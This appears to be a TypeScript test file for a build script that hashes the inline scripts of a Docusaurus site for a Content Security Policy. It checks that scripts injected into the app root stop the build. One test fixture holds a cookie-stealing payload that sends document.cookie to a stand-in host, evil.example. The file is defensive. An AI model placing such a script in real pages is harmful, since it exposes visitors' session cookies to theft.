import {test} from 'node:test';
import assert from 'node:assert/strict';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import {appRootRange, cspHash, findInlineScripts, inlineScriptsOf, intendedInlineScriptHashes} from '../../scripts/inline-scripts';

function site(pages: Record<string, string>): string {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'site-'));
  for (const [file, html] of Object.entries(pages)) {
    fs.mkdirSync(path.dirname(path.join(dir, file)), {recursive: true});
    fs.writeFileSync(path.join(dir, file), html);
  }
  return dir;
}

/** A page in the shape Docusaurus writes (minified, attributes unquoted): head, pre-body scripts, app root, bundles. */
const page = (app: string, {head = '', before = '', after = ''} = {}) =>
  `<!doctype html><html lang=en><head>${head}<script src=/assets/js/main.js defer></script></head>` +
  `<body class=navigation-with-keyboard>${before}<div id=__docusaurus>${app}</div>${after}</body></html>`;

const theme =
  '!function(){var t=localStorage.getItem("theme-extension-docs");document.documentElement.setAttribute("data-theme",t||"light")}()';
const banner = 'document.addEventListener("DOMContentLoaded",function(){void 0===window.docusaurus&&insertBanner()})';
const start = '!function(){var e=!1;function n(){e||(e=!0,start())}requestAnimationFrame(n)}()';
const app = '<nav><div class=navbar><div>Menu</div></div></nav><main><div><p>Text</p><div><div></div></div></div></main>';

test('scripts of the template and the plugins, around the app, are hashed whatever their text', () => {
  const root = site({
    'index.html': page(app, {
      head: `<script data-rh=true>${banner}</script>`,
      before: `<script>${theme}</script>`,
      after: `<script>${start}</script>`,
    }),
    'docs/index.html': page(app, {before: `<script>${theme}</script>`, after: `<script>${start}</script>`}),
  });
  assert.deepEqual(intendedInlineScriptHashes(root), [banner, theme, start].map(cspHash).sort());
  assert.deepEqual(findInlineScripts(root).get(theme), ['docs/index.html', 'index.html']);
});

test('an inline script inside the app stops the build, naming the pages that hold it', () => {
  const evil = 'fetch("https://evil.example/?"+document.cookie)';
  const root = site({
    'index.html': page(app, {before: `<script>${theme}</script>`}),
    'docs/srb/welcome/index.html': page(`<main><div><p>Text</p><script>${evil}</script></div></main>`, {
      before: `<script>${theme}</script>`,
    }),
    'blog/index.html': page('<main><div><script type=module>import("/x.js")</script></div></main>'),
  });
  assert.throws(
    () => intendedInlineScriptHashes(root),
    (error: Error) => {
      assert.match(error.message, /docs\/srb\/welcome\/index\.html: fetch\("https:\/\/evil\.example/);
      assert.match(error.message, /blog\/index\.html: import\("\/x\.js"\)/);
      assert.doesNotMatch(error.message, /^- index\.html/m);
      return true;
    },
  );
});

test('the app root ends at its own closing tag: nested divs, and "<div" inside scripts and comments, do not count', () => {
  const html = page(`<div><script>var s="<div>";</script><!-- <div> --><style>.x{content:"</div>"}</style></div><p>x</p>`, {
    after: `<script>${start}</script>`,
  });
  const [begin, end] = appRootRange(html)!;
  assert.ok(html.slice(begin, end).endsWith('<p>x</p></div>'), html.slice(begin, end));
  assert.deepEqual(
    inlineScriptsOf(html).map((s) => [s.script, s.insideApp]),
    [
      ['var s="<div>";', true],
      [start, false],
    ],
  );
});

test('external scripts and JSON-LD data are not inline scripts', () => {
  const root = site({
    'index.html': page('<script type=application/ld+json>{"a":1}</script><script></script>', {
      head: '<script data-rh=true type=application/ld+json>{"a":1}</script>',
    }),
  });
  assert.equal(findInlineScripts(root).size, 0);
  assert.deepEqual(intendedInlineScriptHashes(root), []);
});

test('a page without an app root (a file Docusaurus did not render) has no scripts inside the app', () => {
  assert.deepEqual(inlineScriptsOf(`<html><body><script>${start}</script></body></html>`), [{script: start, insideApp: false}]);
});
